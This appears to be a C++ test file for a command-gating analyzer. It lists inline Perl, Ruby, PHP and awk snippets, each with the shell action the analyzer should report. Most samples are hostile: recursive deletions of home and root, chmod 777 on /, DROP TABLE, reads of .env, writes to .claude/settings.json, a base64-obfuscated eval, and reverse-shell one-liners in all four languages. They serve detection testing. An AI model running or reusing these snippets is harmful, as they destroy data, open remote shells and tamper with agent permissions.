// Inline programs of Perl, Ruby, PHP and awk: text, and what it would do.
#include "reading.hpp"

#include "tipstaff/gate/interpreters.hpp"
#include "tipstaff/gate/patch.hpp"
#include "tipstaff/gate/powershell.hpp"
#include "tipstaff/gate/sql.hpp"

namespace {

using namespace tipstaff::gate;
using namespace tipstaff::gate::test;

constexpr Sample kPerl[] = {
    {"print 'rm -rf /'", ""},
    {"# system('rm -rf /')\n1", ""},
    {"if ($x =~ /rm -rf '/) { print 1 }", ""},
    {"s/'/x/g", ""},
    {"s{rm}{'}g; print 1", ""},
    {"system('rm -rf ~')", "$ rm -rf ~"},
    {"system \"rm -rf ~\"", "$ rm -rf ~"},
    {"system('rm', '-rf', '/')", "$ rm -rf /"},
    {"system qw(rm -rf /)", "$ rm -rf /"},
    {"exec 'rm -rf ~'", "$ rm -rf ~"},
    {"`rm -rf ~`", "$ rm -rf ~"},
    {"my $x = `rm -rf ~`;", "$ rm -rf ~"},
    {"qx{rm -rf ~}", "$ rm -rf ~"},
    {"print qx/rm -rf ~/", "$ rm -rf ~"},
    {"my $d = '/'; system(\"rm -rf $d\")", "$ rm -rf /"},
    {"system(\"rm -rf $ENV{HOME}\")", "$ rm -rf /home/dev"},
    {"system('rm -rf ' . $d)", "$ rm -rf <?>"},
    {"open(F, 'rm -rf ~ |')", "$ rm -rf ~"},
    {"open(my $f, '-|', 'rm', '-rf', '/')", "$ rm -rf /"},
    {"open(my $f, '>', '/etc/passwd')", "@write /etc/passwd"},
    {"open(F, '>>a')", "@write --append a"},
    {"open(F, 'a')", "@read a"},
    {"open F, '>', 'a'", "@write a"},
    {"unlink '/etc/passwd'", "rm /etc/passwd"},
    {"unlink('a', 'b')", "rm a b"},
    {"unlink glob('*.txt')", "rm *.txt"},
    {"unlink $_ for ('a', 'b')", "rm a b"},
    {"use File::Path; rmtree('/')", "rm -r -f /"},
    {"use File::Path qw(remove_tree); remove_tree('/a', '/b')", "rm -r -f /a /b"},
    {"File::Path::rmtree('/')", "rm -r -f /"},
    {"rmdir 'a'", "rmdir a"},
    {"kill 9, -1", "kill -s 9 -1"},
    {"chmod 0777, '/etc'", "chmod 777 /etc"},
    {"rename 'a', 'b'", "mv a b"},
    {"eval 'system(\"rm -rf ~\")'", "$ rm -rf ~"},
    {"eval { system('rm -rf ~') }", "$ rm -rf ~"},
    {"system(<<X);\nrm -rf ~\nX\n", "$ rm -rf ~\\n"},
    {"use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,\">&S\");exec(\"/bin/sh -i\");", "$ /bin/sh -i\nnc -e /bin/sh <?>"},
    {"$dbh->do('DROP TABLE users')", "sql drop table users"},
    {"unlink </a/*>", "rm /a/*"},
    {"while (<STDIN>) { print }", ""},
    {"unlink for glob('/a/*')", "rm /a/*"},
    {"rmtree($_) for glob('/a/*')", "rm -r -f /a/*"},
    {"find(sub { unlink $_ }, '/a')", "rm /a/*"},
    {"system { 'rm' } 'rm', 'x'", "$ rm x"},
};

constexpr Sample kRuby[] = {
    {"puts 'rm -rf /'", ""},
    {"# system 'rm -rf /'\nputs 1", ""},
    {"puts \"a#{1}b\"", ""},
    {"x =~ /rm -rf '/", ""},
    {"system('rm -rf ~')", "$ rm -rf ~"},
    {"system 'rm -rf ~'", "$ rm -rf ~"},
    {"system 'rm', '-rf', '/'", "$ rm -rf /"},
    {"exec 'rm -rf ~'", "$ rm -rf ~"},
    {"`rm -rf ~`", "$ rm -rf ~"},
    {"%x(rm -rf ~)", "$ rm -rf ~"},
    {"%x{rm -rf ~}", "$ rm -rf ~"},
    {"puts `rm -rf ~`", "$ rm -rf ~"},
    {"IO.popen('rm -rf ~').read", "$ rm -rf ~"},
    {"IO.popen(['rm', '-rf', '/'])", "$ rm -rf /"},
    {"require 'open3'; Open3.capture2('rm -rf ~')", "$ rm -rf ~"},
    {"Kernel.system('rm -rf ~')", "$ rm -rf ~"},
    {"system(\"rm -rf #{Dir.home}\")", "$ rm -rf /home/dev"},
    {"d = '/'; system(\"rm -rf #{d}\")", "$ rm -rf /"},
    {"require 'fileutils'; FileUtils.rm_rf('/')", "rm -r -f /"},
    {"FileUtils.rm_rf '/'", "rm -r -f /"},
    {"FileUtils.rm_rf(Dir.home)", "rm -r -f /home/dev"},
    {"FileUtils.rm_rf(ENV['HOME'])", "rm -r -f /home/dev"},
    {"FileUtils.rm_rf(Dir.glob('/*'))", "rm -r -f /*"},
    {"FileUtils.rm_rf(Dir['/*'])", "rm -r -f /*"},
    {"FileUtils.rm_rf %w[src docs]", "rm -r -f src docs"},
    {"%w[src docs].each { |d| FileUtils.rm_rf(d) }", "rm -r -f src docs"},
    {"['src', 'docs'].each do |d|\n  FileUtils.rm_rf d\nend", "rm -r -f src docs"},
    {"FileUtils.rm_rf(File.join('/', 'etc'))", "rm -r -f /etc"},
    {"FileUtils.rm_rf(File.expand_path('~'))", "rm -r -f /home/dev"},
    {"File.delete('a')", "rm a"},
    {"File.delete 'a'", "rm a"},
    {"Dir.rmdir('a')", "rmdir a"},
    {"File.write('.claude/settings.json', '{}')", "@write .claude/settings.json"},
    {"File.open('a', 'w') { |f| f.puts 1 }", "@write a"},
    {"puts File.read('.env')", "@read .env"},
    {"Process.kill('KILL', -1)", "kill -s KILL -1"},
    {"FileUtils.mv 'a', '/dev/null'", "mv a /dev/null"},
    {"FileUtils.chmod_R 0777, '/'", "chmod -R 777 /"},
    {"eval \"system('rm -rf ~')\"", "$ rm -rf ~"},
    {"eval(x)", "!code"},
    {"system(<<~X)\n  rm -rf ~\nX\n", "$   rm -rf ~\\n"},
    {"require 'socket'; f=TCPSocket.open('x',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)", "$ /bin/sh -i <&<?> >&<?> 2>&<?>\nnc -e /bin/sh <?>"},
    {"ActiveRecord::Base.connection.execute('DROP TABLE users')", "sql drop table users"},
    {"Dir.glob('/a/*').each { |f| File.delete(f) }", "rm /a/*"},
    {"Dir.each_child('/a') do |p| File.delete(\"/a/#{p}\") end", "rm /a/*"},
    {"Kernel.send(:system, 'rm x')", "$ rm x"},
    {"Dir.glob('/a').each(&File.method(:delete))", "rm /a"},
};

constexpr Sample kPhp[] = {
    {"echo 'rm -rf /';", ""},
    {"// system('rm -rf /');\necho 1;", ""},
    {"<b>system('rm -rf /')</b><?php echo 1; ?> system('x')", ""},
    {"system('rm -rf ~');", "$ rm -rf ~"},
    {"<?php system('rm -rf ~'); ?>", "$ rm -rf ~"},
    {"exec('rm -rf ~');", "$ rm -rf ~"},
    {"shell_exec(\"rm -rf ~\");", "$ rm -rf ~"},
    {"passthru('rm -rf ~');", "$ rm -rf ~"},
    {"echo `rm -rf ~`;", "$ rm -rf ~"},
    {"$d = '/'; exec('rm -rf ' . $d);", "$ rm -rf /"},
    {"$d = '/'; exec(\"rm -rf $d\");", "$ rm -rf /"},
    {"exec(\"rm -rf {$d}\");", "$ rm -rf <?>"},
    {"popen('rm -rf ~', 'r');", "$ rm -rf ~"},
    {"unlink('/etc/passwd');", "rm /etc/passwd"},
    {"rmdir('a');", "rmdir a"},
    {"array_map('unlink', glob('/tmp/*'));", "rm /tmp/*"},
    {"foreach (['a', 'b'] as $f) { unlink($f); }", "rm a b"},
    {"file_put_contents('.claude/settings.json', '{}');", "@write .claude/settings.json"},
    {"echo file_get_contents('.env');", "@read .env"},
    {"eval('system(\"rm -rf ~\");');", "$ rm -rf ~"},
    {"eval(base64_decode('c3lzdGVtKCJybSAtcmYgfiIpOw=='));", "$ rm -rf ~"},
    {"rename('a', 'b');", "mv a b"},
    {"chmod('/etc', 0777);", "chmod 777 /etc"},
    {"$pdo->exec('DROP TABLE users');", "sql drop table users"},
    {"mysqli_query($c, 'DROP TABLE users');", "sql drop table users"},
    {"$sock=fsockopen('x',4444);exec('/bin/sh -i <&3 >&3 2>&3');", "$ /bin/sh -i <&3 >&3 2>&3\nnc -e /bin/sh <?>"},
};

constexpr Sample kAwk[] = {
    {"{print $1}", ""},
    {"/DROP TABLE/ {print FILENAME\":\"FNR}", ""},
    {"/system(\"rm\")/ {print}", ""},
    {"BEGIN { print \"system(rm -rf ~)\" }", ""},
    {"# system(\"rm -rf ~\")\n{print}", ""},
    {"{ x = $1 / 2; y = \"a\" / 3 }", ""},
    {"BEGIN { system(\"rm -rf ~\") }", "$ rm -rf ~"},
    {"BEGIN{c=\"rm -rf ~\";system(c)}", "$ rm -rf ~"},
    {"{ system(\"rm -rf \" $1) }", "$ rm -rf <?>"},
    {"{ system($0) }", "!code"},
    {"BEGIN { \"rm -rf ~\" | getline x }", "$ rm -rf ~"},
    {"{ print $1 | \"sh\" }", "$ sh"},
    {"{ print | \"xargs rm -rf\" }", "$ xargs rm -rf"},
    {"{ print > \"/etc/passwd\" }", "@write /etc/passwd"},
    {"{ print >> \"a\" }", "@write --append a"},
    {"{ printf \"%s\", $1 > \"a\" }", "@write a"},
    {"{ print > $1 }", "@write <?>"},
    {"$1 > 5 { print }", ""},
    {"BEGIN { while ((getline l < \".env\") > 0) print l }", "@read .env"},
    {"BEGIN { s = \"/inet/tcp/0/203.0.113.7/4444\"; while (42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }",
     "nc -e /bin/sh <?>"},
    {"BEGIN { system(sprintf(\"rm %s\", \"x\")) }", "$ rm x"},
    {"BEGIN { system(\"ls \" ENVIRON[\"HOME\"]) }", "$ ls /home/dev"},
};

}  // namespace

int main() {
  Machine machine;
  check_samples(machine, Dialect::perl, kPerl);
  check_samples(machine, Dialect::ruby, kRuby);
  check_samples(machine, Dialect::php, kPhp);
  check_samples(machine, Dialect::awk, kAwk);
  return report();
}
